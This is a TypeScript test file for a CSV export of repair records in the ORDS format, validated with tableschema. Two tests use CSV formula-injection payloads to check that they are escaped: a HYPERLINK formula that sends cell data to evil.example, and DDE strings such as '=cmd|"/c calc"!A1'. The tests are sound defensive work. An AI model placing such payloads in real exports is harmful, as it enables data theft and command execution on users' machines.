// The ORDS export checked by the Frictionless validator `tableschema` (its own CSV parser, casts,
// patterns, enums, uniqueness), not by comparing strings.
// eslint-disable-next-line no-restricted-imports -- test only: tableschema reads Node streams
import { Readable } from 'node:stream';
import Papa from 'papaparse';
import { Schema, Table } from 'tableschema';
import { describe, expect, it } from 'vitest';
import { ORDS_BARRIERS } from '../eventSchemas';
import { figureItemsFromEvents } from './itemFacts';
import { ORDS_FIELDS, ordsRecords, ordsRow, toOrdsCsv } from './ords';
import type { OrdsRecord } from './ords';
import { ORDS_SCHEMA_FIELDS, ordsEnum, ordsValidationSchema } from './ordsSchema';
import ordsPackage from './ords-tableschema-v0.3-202507.json';
import { at, code, EVENTS, NOORD, SHOP, ZUID } from './testItems';

const ITEMS = figureItemsFromEvents(EVENTS);
const OPTIONS = {
  dataProvider: 'Repair zkt HUB Brugge',
  siteName: (id: string) => (id === SHOP ? 'Kringwinkel Centrum' : id),
};
const NOVEMBER = { from: '2026-11-01', to: '2026-11-30' };
const AUTUMN = { from: '2026-10-01', to: '2026-12-31' };
const ID = (letterValue: number) => `bewaar-${letterValue * 32 ** 7}`; // payload "<letter>0000000"

/** Reads a CSV with tableschema against the (restated) ORDS schema; throws what it finds. */
async function validate(csv: string) {
  const table = await Table.load(() => Readable.from([csv]), { schema: ordsValidationSchema() });
  // Its typings call read() and Schema.load() synchronous; both return promises.
  const rows = await Promise.resolve(table.read({ extended: true }));
  return { table, rows: rows as unknown as [number, string[], unknown[]][] };
}
/** The validator's messages for a CSV ([] when it is valid). */
async function problems(csv: string): Promise<string[]> {
  try {
    await validate(csv);
    return [];
  } catch (error) {
    const { message, errors } = error as { message: string; errors?: { message: string }[] };
    return errors?.length ? errors.map((e) => e.message) : [message];
  }
}
const csvOf = (records: OrdsRecord[]) =>
  Papa.unparse({ fields: [...ORDS_FIELDS], data: records.map(ordsRow) }, { newline: '\n' });

describe('ORDS schema', () => {
  it('has our field list in the schema’s order', () => {
    expect([...ORDS_FIELDS]).toEqual(ORDS_SCHEMA_FIELDS);
  });

  it('knows every status and barrier we write', () => {
    expect(ordsEnum('repair_status')).toEqual(['Fixed', 'Repairable', 'End of life', 'Unknown']);
    expect(ordsEnum('repair_barrier_if_end_of_life')).toEqual([...ORDS_BARRIERS]);
  });

  it('is refused by the validator as published, and accepted as restated', async () => {
    const published = ordsPackage.resources[0]?.schema;
    expect((await Promise.resolve(Schema.load(published ?? {}))).valid).toBe(false); // enum and unique as strings
    const restated = await Promise.resolve(Schema.load(ordsValidationSchema()));
    expect(restated.errors).toEqual([]);
    expect(restated.fieldNames).toEqual(ORDS_SCHEMA_FIELDS);
  });
});

describe('ordsRecords', () => {
  it('maps November’s outcomes: fixed, unsafe, a barrier; not sold-unrepaired nor no-demand', () => {
    const records = ordsRecords(ITEMS, NOVEMBER, OPTIONS);
    const common = {
      data_provider: 'Repair zkt HUB Brugge',
      country: 'BEL',
      year_of_manufacture: '',
      product_age: '',
      group_identifier: 'Kringwinkel Centrum',
      brand: 'Unknown',
    };
    expect(records).toEqual([
      {
        ...common,
        id: ID(10), // A
        partner_product_category: 'Waterkoker',
        product_category: 'Kettle',
        product_category_id: 14,
        repair_status: 'Fixed',
        repair_barrier_if_end_of_life: '',
        event_date: '2026-11-04',
        problem: 'Schakelaar defect: Schakelaar vervangen',
      },
      {
        ...common,
        id: ID(14), // E
        partner_product_category: 'Broodrooster',
        product_category: 'Toaster',
        product_category_id: 31,
        repair_status: 'End of life',
        repair_barrier_if_end_of_life: '',
        event_date: '2026-11-12',
        problem: 'veiligheidstest niet geslaagd / afgekeurd: niet veilig',
      },
      {
        ...common,
        id: ID(15), // F
        partner_product_category: 'Stofzuiger',
        product_category: 'Vacuum',
        product_category_id: 34,
        repair_status: 'End of life',
        repair_barrier_if_end_of_life: 'Spare parts too expensive',
        event_date: '2026-11-14',
        problem: 'werkt niet / afgekeurd: onderdelen te duur',
      },
    ]);
    expect(records.map((r) => Object.keys(r))).toEqual(records.map(() => [...ORDS_FIELDS]));
  });

  it('dates a fixed item by its last repair', () => {
    const december = ordsRecords(ITEMS, { from: '2026-12-01', to: '2026-12-31' }, OPTIONS);
    expect(december.map((r) => [r.id, r.event_date, r.problem])).toEqual([
      [ID(12), '2026-12-02', 'Kabel: Kabel vervangen / Knop: Knop vastgezet'], // C
    ]);
  });

  it('gives every record a problem: what the workshop noted and why it gave the item up', () => {
    const noted = [
      ...EVENTS,
      at('2026-11-13T08:30:00Z', 'item.inspected', code('F'), {
        visual: 'damaged',
        complete: true,
        note: 'Motor ruikt verbrand',
      }),
    ];
    const records = ordsRecords(figureItemsFromEvents(noted), AUTUMN, OPTIONS);
    expect(records.find((r) => r.id === ID(15))?.problem).toBe(
      'Motor ruikt verbrand / werkt niet / afgekeurd: onderdelen te duur',
    );
    expect(records.map((r) => r.problem)).not.toContain('');
  });

  it('refuses an id prefix the schema pattern would refuse', () => {
    expect(() => ordsRecords(ITEMS, NOVEMBER, { ...OPTIONS, idPrefix: 'Bewaar_' })).toThrow();
  });
});

describe('toOrdsCsv against the validator', () => {
  it('writes brands, problems and shop names that start like a formula as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const events = EVENTS.map((e) =>
      e.type === 'item.registered' && e.subject === code('A')
        ? { ...e, data: { ...e.data, brand: evil } }
        : e.type === 'item.repaired'
          ? { ...e, data: { ...e.data, fault: '@SUM(1+1)*cmd|x', action: '-2+3\n=1+1' } }
          : e,
    );
    const csv = toOrdsCsv(figureItemsFromEvents(events), AUTUMN, {
      ...OPTIONS,
      siteName: (id: string) => (id === SHOP ? '+1+1' : id),
    });
    const cells = Papa.parse<string[]>(csv.trim(), { newline: '\n' }).data.flat();
    // Every cell that a spreadsheet would run starts with the quote that makes it text.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${evil}`);
    expect(cells).toContain("'+1+1");
    expect(cells.some((cell) => cell.startsWith("'@SUM(1+1)*cmd|x"))).toBe(true);
    expect(await problems(csv)).toEqual([]);
  });

  it('validates: names and order, types, patterns, enums, unique ids', async () => {
    const csv = toOrdsCsv(ITEMS, AUTUMN, OPTIONS);
    expect(csv.startsWith('id,data_provider,country,')).toBe(true);
    expect(csv).not.toContain('\r');
    const { table, rows } = await validate(csv);
    // tableschema checks that every field has a header, not their order: compare its own reads.
    expect(table.headers).toEqual(table.schema.fieldNames);
    expect(rows).toHaveLength(4); // A C E F
    const first = rows[0]?.[2] ?? [];
    expect(typeof first[5]).toBe('number'); // product_category_id cast to an integer
    expect(first[12]).toBeInstanceOf(Date); // event_date cast to a date
  });

  it('is a validator that catches what it should', async () => {
    const [good] = ordsRecords(ITEMS, NOVEMBER, OPTIONS);
    if (!good) throw new Error('fixture has no record');
    const bad: [Partial<OrdsRecord>, RegExp][] = [
      [{ id: 'bewaar_1' }, /"pattern" constraint for column "id"/],
      [{ country: 'BE' }, /"pattern" constraint for column "country"/],
      [{ repair_status: 'Gerepareerd' }, /"enum" constraint for column "repair_status"/],
      // The ORA's own July 2025 data writes this barrier so; its schema says "Too worn out".
      [
        { repair_barrier_if_end_of_life: 'Item too worn out' },
        /"enum" constraint for column "repair_barrier/,
      ],
      [{ event_date: '04/11/2026' }, /column "event_date" is not type "date"/],
      [{ product_category_id: 123 }, /"pattern" constraint for column "product_category_id"/],
      [{ id: '' }, /"required" constraint for column "id"/],
    ];
    for (const [change, message] of bad)
      expect(await problems(csvOf([{ ...good, ...change }]))).toEqual([
        expect.stringMatching(message),
      ]);
    expect(await problems(csvOf([good]))).toEqual([]);
    expect(await problems(csvOf([good, good]))).toEqual([expect.stringMatching(/unique/)]);
    // Values are cast by position, so columns in another order fail on their values.
    const reversed = Papa.unparse([[...ORDS_FIELDS].reverse(), ordsRow(good).reverse()]);
    expect((await problems(reversed)).length).toBeGreaterThan(0);
  });
});

describe('toOrdsCsv over several regions', () => {
  // Noord's park and the shop in one region, Zuid's park in another.
  const regions: Record<string, string> = {
    [NOORD]: 'Repair zkt HUB Noord',
    [SHOP]: 'Repair zkt HUB Noord',
    [ZUID]: 'Intercommunale Zuid',
  };
  const regionOfSite = (site: string) => regions[site] ?? '';

  it('names each row’s region as its data provider, keeps the shop as the group, and validates', async () => {
    const records = ordsRecords(ITEMS, AUTUMN, { ...OPTIONS, regionOfSite });
    const plain = ordsRecords(ITEMS, AUTUMN, OPTIONS);
    expect(records.map((r) => [r.id, r.data_provider])).toEqual([
      [ID(10), 'Repair zkt HUB Noord'], // A, from Noord
      [ID(12), 'Repair zkt HUB Noord'], // C, from Noord
      [ID(14), 'Repair zkt HUB Noord'], // E, from Noord
      [ID(15), 'Intercommunale Zuid'], // F, from Zuid
    ]);
    // Nothing else changes: ORDS has no region column.
    expect(records.map((r) => ({ ...r, data_provider: '' }))).toEqual(
      plain.map((r) => ({ ...r, data_provider: '' })),
    );
    expect(records.every((r) => r.group_identifier === 'Kringwinkel Centrum')).toBe(true);
    const csv = toOrdsCsv(ITEMS, AUTUMN, { ...OPTIONS, regionOfSite });
    expect(csv.split('\n')[0]).toBe(ORDS_FIELDS.join(','));
    expect(await problems(csv)).toEqual([]);
  });

  it('writes a region name that starts like a formula as text, and still validates', async () => {
    const csv = toOrdsCsv(ITEMS, AUTUMN, { ...OPTIONS, regionOfSite: () => '=cmd|"/c calc"!A1' });
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(rows.data.map((r) => r.data_provider)).toEqual(
      rows.data.map(() => `'=cmd|"/c calc"!A1`),
    );
    expect(await problems(csv)).toEqual([]);
  });
});
